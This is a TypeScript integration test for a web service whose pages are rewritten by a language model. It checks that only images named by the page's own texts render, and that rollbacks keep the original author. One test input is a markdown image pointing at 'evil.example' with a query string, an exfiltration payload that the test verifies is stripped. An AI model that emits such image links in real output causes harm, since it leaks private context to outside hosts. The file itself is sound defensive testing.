import type { AudienceView } from '../../../src/modules/pages/dto/audiences.dto.js';
import { uuidOf } from '../../../src/shared/kernel/ids.js';
import { made } from '../../assets/support.js';
import { ModelServer, saying, WORDS } from '../../pages/composing/model-server.js';
import { pathOf } from '../../pages/records.js';
import { startTestService, type TestService } from '../../support/test-service.js';
import { until } from '../../support/until.js';
import { SiteVisitor } from '../site-visitor.js';

const model = new ModelServer();
let service: TestService;
let visitor: SiteVisitor;

beforeAll(async () => {
  const COMPOSER_URL = await model.start();
  service = await startTestService({
    ...{ ROLE: 'all', COMPOSER: 'openai', COMPOSER_URL, COMPOSER_MODEL: 'tiny', COMPOSER_KEY: 'sk-x' },
  });
  visitor = new SiteVisitor({ service, api: service.home.api, strangerApi: service.stranger.api });
});
afterAll(async () => {
  await model.stop();
  await service.close();
});

const image = (assetId: string, alt: string) => `![${alt}](asset:${assetId})`;
const ofAsset = async () => (await made(service)).assetId;

/** Lets the model write a new version, and waits until it is published. */
async function written(audience: AudienceView, body: string): Promise<AudienceView> {
  model.ways.push(saying({ ...WORDS, body, questions: [{ question: 'Q?', answer: body }] }));
  const { versionId } = await visitor.version(audience);
  return until(async () => {
    const now = await visitor.read<AudienceView>(pathOf(audience));
    return now.publishedVersion.versionId === versionId && now;
  });
}

async function authorOf({ publishedVersion }: AudienceView): Promise<string | null> {
  const { rows } = await service.pool.query<{ author: string | null }>(
    'select text_author as author from audience_version where id = $1',
    [uuidOf('version', publishedVersion.versionId)],
  );
  return rows[0]!.author;
}

async function altsAt(path: string): Promise<string[]> {
  const { text } = await visitor.open(path).expect(200);
  return [...text.matchAll(/<img (?!class="logo")[^>]*alt="([^"]*)"/g)].map(([, alt]) => alt!);
}

it("a model's text shows the pictures that the page's own texts name, and no others", async () => {
  const [ofBody, ofOverride, ofTopic, ofNotes, ofNobody] = await Promise.all(
    Array.from({ length: 5 }, ofAsset),
  );
  const { body: topic } = await service.home.api.post('/v0/topics', { title: 'T' }).expect(201);
  const content = { type: 'markdown', content: image(ofTopic!, 'x') };
  await service.home.api.post(`/v0/topics/${topic.topicId}/entries`, { content }).expect(201);
  const page = { body: image(ofBody!, 'x'), pageContext: `Use ${image(ofNotes!, 'x')}` };
  const audience = await visitor.shown('/model', page, { supplementaryContext: image(ofNotes!, 'x') });
  expect(await authorOf(audience)).toBe('template');
  const text = [
    ...[image(ofBody!, 'body'), image(ofOverride!, 'override'), image(ofTopic!, 'topic')],
    ...[image(ofNotes!, 'notes'), image(ofNobody!, 'nobody'), '![secret](https://evil.example/?q=notes)'],
  ].join('\n\n');
  const byModel = await written(audience, text);
  expect(await authorOf(byModel)).toBe('model');
  await until(async () => (await altsAt('/home/model')).length === 4);
  expect(await altsAt('/home/model')).toEqual(['body', 'topic', 'body', 'topic']);
  const preview = await visitor.previewPath(byModel);
  expect(await altsAt(preview)).toEqual(['body', 'topic', 'body', 'topic']);
  const { content: answered } = await visitor.read<{ content: object }>(
    `${pathOf(audience)}/versions/${byModel.publishedVersion.versionId}/content`,
  );
  expect(answered).not.toHaveProperty('quotedAssetIds');

  await service.home.api.patch(pathOf(audience), { bodyOverride: image(ofOverride!, 'x') }).expect(200);
  await written(audience, text);
  await until(async () => (await altsAt('/home/model')).includes('override'));
  expect(await altsAt('/home/model')).toEqual(['override', 'topic', 'override', 'topic']);
});

it('a rollback has the author of the version that it repeats', async () => {
  const audience = await visitor.shown('/rollback', { body: image(await ofAsset(), 'own') });
  await written(audience, 'No picture');
  const first = audience.publishedVersion.versionId;
  const path = `${pathOf(audience)}/versions/${first}/rollback`;
  const { body } = await service.home.api.post(path, {}).expect(201);
  const rolledBack = await until(async () => {
    const now = await visitor.read<AudienceView>(pathOf(audience));
    return now.publishedVersion.versionId === body.versionId && now;
  });
  expect(await authorOf(rolledBack)).toBe('template');
  await until(async () => (await altsAt('/home/rollback')).includes('own'));
});
